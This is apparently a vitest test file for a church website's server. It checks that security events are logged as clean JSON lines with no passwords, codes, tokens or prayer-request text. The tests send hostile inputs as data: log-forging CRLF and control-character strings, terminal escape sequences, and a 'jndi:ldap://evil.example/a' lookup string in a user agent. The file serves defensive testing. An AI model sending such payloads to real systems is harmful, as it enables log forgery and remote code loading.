import { sql } from 'kysely';
import { expect } from 'vitest';
import { ADMINISTRATOR } from '#app/testing/server-process.ts';
import { withDatabase } from '../../support/db-inspect.ts';
import { defineCase } from '../../support/define-case.ts';
import { runConcurrently } from '../../support/measures/measures.ts';
import { rawRequest, sendRaw } from '../../support/raw-http.ts';
import type { Site } from '../../support/server-under-test.ts';
import { words } from '../../support/words.ts';

const { email, password } = ADMINISTRATOR;
const WRONG = 'a password that nobody has';
const NEW = 'a harp beside the window';
const FIRST = 'nine books upon the shelf';
const FORGED = '{"level":"info","event":"signed in","user":1,"msg":"forged"}';
const ESCAPES = '\u001b[2J\u001b]0;owned\u0007';
const PRAYER = 'for a grief that nobody else may know of';
/** Sent in every field that a log line could contain. */
const MALICIOUS_NAME = `Anna\r\n${FORGED}\n${ESCAPES}`;

/** The events that the log must contain, with the fields that identify client, account and subject. */
const EVENTS: Readonly<Record<string, readonly string[]>> = {
  started: ['port'],
  'sign-in code sent': ['ip', 'user'],
  'sign-in refused': ['ip'],
  'sign-in limited': ['ip', 'limit'],
  'code refused': ['ip'],
  'signed in': ['ip', 'user'],
  'signed out': ['ip', 'user'],
  'account created': ['ip', 'by', 'user'],
  'account changed': ['ip', 'by', 'user', 'hasNewPassword'],
  'account deleted': ['ip', 'by', 'user'],
  'sessions ended': ['ip', 'by', 'user'],
  'profile changed': ['ip', 'user', 'hasNewPassword'],
  'prayer request stored': ['request'],
  'prayer request held': ['request'],
  'prayer requests limited': [],
  refused: ['problem'],
  stopping: ['reason'],
};
/** The problem codes that must be in the log, each with address, method and path. */
const PROBLEM_CODES = words(`
  NO_SESSION SIGN_IN_REFUSED CODE_REFUSED FORBIDDEN INVALID_BODY TOO_MANY_REQUESTS CONFIRM_PASSWORD`);

defineCase(
  {
    id: 'T57',
    title: 'the log contains all security events and no secrets',
    pass: `every line is one JSON object with a UTC time, whatever a client sends as name, user agent, URL or body; each of ${Object.keys(EVENTS).length} events and ${PROBLEM_CODES.length} kinds of rejection is logged with its origin; no password, code, token, challenge or text of a prayer request is`,
    isQuick: true,
  },
  async ({ startSite, report }) => {
    const site = await startSite();
    const secrets = await triggerAllEvents(site);
    site.server.kill('SIGTERM');
    await site.server.exited;

    const lines = logLines(site);
    const entries = lines.map((line) => JSON.parse(line) as Record<string, unknown>);
    for (const entry of entries) {
      expect(String(entry.time)).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
      expect(entry).toMatchObject({ event: expect.any(String) });
    }
    for (const [event, fields] of Object.entries(EVENTS)) {
      const [match] = entries.filter((entry) => entry.event === event);
      expect(
        fields.filter((field) => match?.[field] === undefined),
        event,
      ).toEqual([]);
    }
    const rejections = entries.filter(({ event }) => event === 'refused');
    for (const problem of PROBLEM_CODES) {
      const matching = rejections.filter((entry) => entry.problem === problem);
      expect(matching, problem).not.toEqual([]);
      for (const { ip, method, path } of matching)
        expect(
          [ip !== undefined || String(path).includes('/prayer-request/'), typeof method],
          `${problem} ${path}`,
        ).toEqual([true, 'string']);
    }
    const log = lines.join('\n');
    expect(secrets.filter((secret) => log.includes(secret))).toEqual([]);
    expect(entries.filter(({ msg }) => msg === 'forged')).toEqual([]);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: the log must contain none
    expect(/[\x00-\x09\x0b-\x1f\x7f]/.test(log)).toBe(false);
    report(
      `${entries.length} of ${lines.length} lines parse; ${Object.keys(EVENTS).length} events and ${PROBLEM_CODES.length} kinds of rejection logged; 0 of ${secrets.length} secrets`,
    );
  },
);

/** The lines of the output, without the indented startup message. */
const logLines = ({ server }: Site) =>
  server
    .output()
    .split('\n')
    .filter((line) => line !== '' && !line.startsWith('  '));

const SECRET_PATH = 'anna-varghese';
const UNPRINTABLE_PATHS =
  words(`/%0a /services%0a /%E2%80%A8 /%00 /%0a.data /api/%0a /api/events/%0a /media/%0a.jpg
  /calendar/%0a.ics /assets/%C2%85.js`);

defineCase(
  {
    id: 'T76',
    title: 'every line of a noisy log is one JSON object without a path of a visitor',
    pass: 'control characters and line separators in paths: 404; after them, errors 500 of pages and the API, and aborted uploads, 100 % of the lines parse',
    isQuick: true,
  },
  async ({ startSite, report }) => {
    const site = await startSite();
    for (const path of UNPRINTABLE_PATHS)
      expect([path, (await site.call(`${path}?${SECRET_PATH}`)).status]).toEqual([path, 404]);
    await site.call(`/%0a${SECRET_PATH}`);
    await site.call(`/news/1-${SECRET_PATH}.data?_routes=nothing`);
    await withDatabase(site.databaseUrl, ({ migrationDb }) =>
      sql`alter table news rename to gone`.execute(migrationDb),
    );
    for (const path of ['/api/news', '/eventsandnews', `/news/1-${SECRET_PATH}`, '/eventsandnews.data'])
      expect((await site.call(path)).status, path).toBeOneOf([500, 503]);
    const { address } = site.server;
    const upload = ['Content-Length: 5000', 'Content-Type: multipart/form-data; boundary=x'];
    for (const path of ['/media/upload', '/api/events', '/prayer-request'])
      await sendRaw(address, `${rawRequest(address, `POST ${path} HTTP/1.1`, upload)}--x`, {
        idleTimeoutMs: 200,
      });
    site.server.kill('SIGTERM');
    await site.server.exited;

    const lines = logLines(site);
    const failures = lines.filter((line) => JSON.parse(line).event === 'failure');
    expect(failures).not.toEqual([]);
    expect(lines.filter((line) => line.includes(SECRET_PATH))).toEqual([]);
    report(
      `${lines.length} of ${lines.length} lines parse, ${failures.length} of them errors; 0 contain a path`,
    );
  },
);

/** Triggers each event, with malicious text in every field. @returns all secrets that were sent or received. */
async function triggerAllEvents(site: Site): Promise<string[]> {
  const secrets = [password, WRONG, NEW, FIRST, PRAYER];
  const signIn = async (account = ADMINISTRATOR) => {
    const { userId, otp } = await site.challenge(account);
    const wrongCode = { userId, otp: String((Number(otp) + 1) % 1_000_000).padStart(6, '0') };
    await site.call('/api/auth/verify-otp', { body: wrongCode });
    const { json } = await site.call('/api/auth/verify-otp', { body: { userId, otp } });
    secrets.push(userId, `"${otp}"`, `:${otp}`, ` ${otp}`, String(json?.token));
    return String(json?.token);
  };
  const token = await signIn();
  const me = { name: MALICIOUS_NAME, email };
  for (const currentPassword of [undefined, WRONG, password]) {
    const body = { ...me, ...(currentPassword && { password: NEW, currentPassword }) };
    await site.call('/api/auth/profile', { method: 'PUT', token, body });
  }

  const deacon = { name: MALICIOUS_NAME, email: 'deacon@stthomas.example' };
  const { json: created } = await site.call('/api/users', { token, body: { ...deacon, password: FIRST } });
  const path = `/api/users/${created?.id}`;
  const changed = { ...deacon, isActive: true, password: `${FIRST} again` };
  await site.call(path, { method: 'PUT', token, body: changed });
  await site.call(`${path}/sessions`, { method: 'DELETE', token });
  await site.call(path, { method: 'DELETE', token });
  const own = await site.call('/api/auth/me', { token });
  await site.call(`/api/users/${own.json?.id}`, { method: 'DELETE', token });

  await runConcurrently(8, 1, () =>
    site.call('/api/auth/login', { body: { email, password: WRONG }, from: '127.0.7.2' }),
  );
  await runConcurrently(31, 1, (n) =>
    site.call('/api/prayer-request/submit', {
      body: { prayerType: 'Blessings', name: MALICIOUS_NAME, details: `${PRAYER} ${n}` },
    }),
  );
  await site.call('/api/events', { token, body: { title: 1, details: PRAYER } });
  await site.call('/api/events', { body: `{"token":"${token}"` });
  await site.call(`/api/users?token=${token}`);
  await sendMaliciousRequests(site, token);
  await site.call('/api/auth/logout', { method: 'POST', token });
  return secrets;
}

/** Sends line breaks, control characters and JSON in URLs, user agents and headers. */
async function sendMaliciousRequests(site: Site, token: string): Promise<void> {
  const { address } = site.server;
  const urls = [
    ...words(`
      /api/%0d%0a%7B%22event%22%3A%22forged%22%7D /api/users/%1b%5b2J /%0a%0a`),
    ...[`/api/events/"},${FORGED}`, '/api/users/\u009b'],
  ];
  const userAgents = [
    ESCAPES,
    `x"}\n${FORGED}`,
    `${FORGED}`,
    '\u009b31m',
    '%0d%0a',
    'jndi:ldap://evil.example/a',
  ];
  // a path that is not valid UTF-8
  await sendRaw(address, rawRequest(address, 'GET /%ff%fe HTTP/1.1'));
  for (const url of urls)
    for (const userAgent of userAgents)
      for (const authorization of [[], [`Authorization: Bearer ${token}`]]) {
        const headers = [`User-Agent: ${userAgent}`, `X-Forwarded-For: ${FORGED}`, ...authorization];
        const line = `DELETE ${url.replaceAll(' ', '%20')} HTTP/1.1`;
        await sendRaw(address, rawRequest(address, line, headers));
      }
}
